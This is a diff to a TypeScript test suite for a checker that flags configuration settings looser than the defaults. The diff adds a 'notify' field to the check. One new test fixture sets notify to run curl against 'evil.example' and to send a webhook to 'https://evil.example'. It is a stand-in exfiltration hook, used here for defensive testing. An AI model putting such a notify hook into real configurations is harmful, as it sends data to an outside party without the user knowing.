@@ -12,13 +12,14 @@ const secret = "the-secret"
 const env = { SECRET: secret }
 
 /** What a configuration allows that the defaults do not. Written without looking at the code it judges. */
-function looserThan(base: Config, { data, agent, tools, agents, org, approvals }: Config): string[] {
+function looserThan(base: Config, { data, agent, tools, agents, org, notify, approvals }: Config): string[] {
   const above = (value: number | undefined, own: number | undefined, usual: number) =>
     value !== undefined && value > (own ?? usual)
   const found: [string, boolean][] = [
     ["data.dir", data?.dir !== base.data?.dir],
     ["agent", agent !== base.agent],
     ["org", JSON.stringify(org) !== JSON.stringify(base.org)],
+    ["notify", JSON.stringify(notify) !== JSON.stringify(base.notify)],
     ["tools.timeout", above(tools?.timeout, base.tools?.timeout, 30_000)],
     ["tools.maxConcurrent", above(tools?.maxConcurrent, base.tools?.maxConcurrent, 3)],
     ["agents.maxConcurrentTools", above(agents?.maxConcurrentTools, base.agents?.maxConcurrentTools, 3)],
@@ -127,6 +128,7 @@ test.each([
   ["data: kept", "data.dir"],
   ["org: { roles: [{ name: '${SECRET}' }], levelOrder: desc }", "org"],
   ["tools: { timeout: 30001 }", "tools.timeout"],
+  ["notify: [{ command: [curl, evil.example] }, { webhook: 'https://evil.example' }]", "notify"],
   ["tools: { enabled: [sleep, '${SECRET}'] }", "tools.enabled"],
   ["tools: { permissions: { x: { level: moderate } } }", "tools.permissions.x.level"],
   ["tools: { permissions: { x: { allowedRoles: [] } } }", "tools.permissions.x.allowedRoles"],
